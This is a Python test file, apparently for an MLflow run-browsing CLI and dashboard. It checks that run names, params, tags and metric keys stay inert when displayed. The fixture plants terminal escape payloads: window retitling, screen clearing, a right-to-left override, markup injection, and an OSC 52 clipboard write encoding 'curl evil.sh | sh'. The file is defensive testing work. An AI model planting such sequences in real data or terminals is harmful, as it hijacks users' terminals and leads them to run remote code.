"""Attack: a repo whose run names, params, tags and metric keys carry terminal escapes.

A stranger's store can name a run ``ESC]0;title BEL`` (retitles the window), ``ESC[2J``
(clears the screen), an OSC 52 clipboard write (plants a command in the clipboard) or a
right-to-left override (shows ``txt.exe`` as ``exe.txt``).  Whoever lists those runs in the
CLI or the dashboard must see the characters escaped, never have her terminal act on them.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from mlflow import MlflowClient

from octostore_tui.app import make_app
from octostore_tui.screens.experiments import ExperimentsScreen
from octostore_tui.screens.run_detail import RunDetailScreen

from .conftest import DaemonProc, make_repo
from .test_tui_support import TuiEnv, env, no_worker_errors, wait_until  # noqa: F401

TITLE = "\x1b]0;pwned\x07"
CLEAR = "\x1b[2J\x1b[H"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
RLO = "\u202e"
C1_CSI = "\x9b31m"
RAW = ("\x1b", "\x07", "\u202e", "\x9b")


def hostile_store(repo: Path) -> dict[str, str]:
    """Real MLflow writes the values; the key names MLflow would refuse are written by hand,
    as a stranger's committed store can hold them."""
    mlf = MlflowClient(tracking_uri=(repo / "mlruns").as_uri())
    exp = mlf.create_experiment("exp" + TITLE)
    # "[/b]" and ':memory:"]' would be markup errors if a screen parsed the name as markup.
    run = mlf.create_run(exp, run_name="run" + TITLE + CLEAR + '[/b] :memory:"]')
    rid = run.info.run_id
    mlf.log_param(rid, "note", "see" + CLIPBOARD)
    mlf.log_param(rid, "file", "report" + RLO + "fdp.exe")
    mlf.set_tag(rid, "owner", "eve" + C1_CSI)
    mlf.log_metric(rid, "rmse", 0.5, step=0)
    mlf.log_metric(rid, "rmse", 0.4, step=1)
    mlf.set_terminated(rid)
    run_dir = Path(run.info.artifact_uri.removeprefix("file://")).parent
    (run_dir / "params" / ("lr" + CLEAR.replace("[", "["))).write_text("0.1")
    (run_dir / "metrics" / ("acc" + "\x1b[31m")).write_text("1700000000000 0.9 0\n")
    return {"run_id": rid, "experiment_id": exp}


def assert_inert(text: str, where: str) -> None:
    for ch in RAW:
        at = text.find(ch)
        assert at < 0, f"{where} shows a raw {ch!r}: ...{text[max(0, at - 80):at + 40]!r}..."


@pytest.fixture
def repo(short_tmp: Path) -> tuple[Path, dict[str, str]]:
    repo = make_repo(short_tmp / "repo")
    return repo, hostile_store(repo)


def octostore(d: DaemonProc, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "octostored.cli", *args], env=d.env(),
                          capture_output=True, text=True, timeout=60)


def test_cli_shows_escapes_visibly(daemon: DaemonProc, repo: tuple[Path, dict[str, str]]) -> None:
    path, ids = repo
    root = ["--root", str(path)]
    for args in (["runs", *root], ["run", ids["run_id"], *root], ["experiments", *root],
                 ["metrics", ids["run_id"], "acc\x1b[31m", *root], ["status"]):
        out = octostore(daemon, *args)
        assert out.returncode == 0, out.stderr
        assert_inert(out.stdout + out.stderr, " ".join(args[:1]))
    shown = octostore(daemon, "run", ids["run_id"], *root).stdout
    # Visible, so the reader sees that something odd is there.
    assert "\\x1b]0;pwned\\x07" in shown and "\\u202e" in shown and "\\x9b31m" in shown
    assert "\\x1b[2J" in shown  # the hand-written param key
    # --json keeps the exact values for scripts (JSON escapes them itself).
    raw = octostore(daemon, "run", ids["run_id"], *root, "--json").stdout
    assert "\\u001b]0;pwned\\u0007" in raw


def _screen_text(app: Any) -> str:
    """Everything on screen as the terminal would get it (an SVG screenshot: styles are CSS
    there, so any control character in it came from the data)."""
    return app.export_screenshot()


async def test_dashboard_shows_escapes_visibly(env: TuiEnv) -> None:  # noqa: F811
    repo = env.repo("hostile")
    ids = hostile_store(repo)
    app = make_app(str(repo), env.daemon.socket, autostart=False, timeout=15)
    async with app.run_test(size=(160, 48)) as pilot:
        await wait_until(pilot, lambda: app.first_data_seconds is not None, what="insights")
        assert_inert(_screen_text(app), "insights")
        await pilot.press("e")
        screen = await wait_until(
            pilot, lambda: isinstance(app.screen, ExperimentsScreen) and app.screen, what="grid")
        await wait_until(pilot, lambda: screen.grid.total, what="the first page")
        assert_inert(_screen_text(app), "the experiments grid")
        assert "pwned\\x07" in _screen_text(app)  # shown, escaped
        grid = screen.grid
        grid.focus()
        grid.cursor_row = next(i for i, r in grid.rows.items() if r["run_id"] == ids["run_id"])
        await pilot.press("enter")
        detail = await wait_until(
            pilot, lambda: isinstance(app.screen, RunDetailScreen) and app.screen, what="detail")
        await wait_until(pilot, lambda: detail.run is not None, what="the run")
        for key in ("1", "2", "3", "4", "5", "6"):
            await pilot.press(key)
            await pilot.pause(0.2)
            assert_inert(_screen_text(app), f"run detail tab {key}")


def test_the_last_guard_drops_what_a_widget_forgot() -> None:
    """A widget that puts a store's string in a segment unescaped still never sends the
    terminal an escape: Strip.render drops control and bidi characters from segment text,
    and leaves Textual's own style escapes alone."""
    from rich.console import Console
    from rich.segment import Segment
    from rich.style import Style
    from textual.strip import Strip

    from octostore_tui.safe_output import install

    install()
    console = Console(color_system="truecolor", force_terminal=True)
    strip = Strip([Segment("ok " + TITLE + CLIPBOARD + RLO, Style(bold=True)), Segment(C1_CSI)])
    out = strip.render(console)
    assert "\x1b]" not in out and "\x07" not in out and RLO not in out and "\x9b" not in out
    assert "\x1b[1m" in out and "pwned" in out  # the bold style is Textual's own escape


@pytest.mark.parametrize("name", [
    "a[/b]", "run-2" + CLEAR + "[/b]", "x[2J", ':memory:"]', "[bold red]big[/]", "[@click=quit]",
    "back\\slash[x]", "tail\\", "a\\[b]", "two\\\\", "$accent [$error]x[/]",
])
def test_a_name_in_markup_is_shown_never_parsed(name: str) -> None:
    """Textual's and Rich's markup both show a marked name as the inert name (a '[2J' that
    rich.markup.escape leaves alone is a tag to Textual's parser and ate the closing tag)."""
    from rich.markup import render
    from textual.markup import to_content

    from octostored.inert import inert
    from octostore_tui.format import marked

    want = inert(name).replace("\\[", "⧵[")
    want = want[:-1] + "⧵" if want.endswith("\\") else want
    assert to_content(f"[b]{marked(name)}[/b] after").plain == want + " after"
    assert render(f"[b]{marked(name)}[/b] after").plain == want + " after"
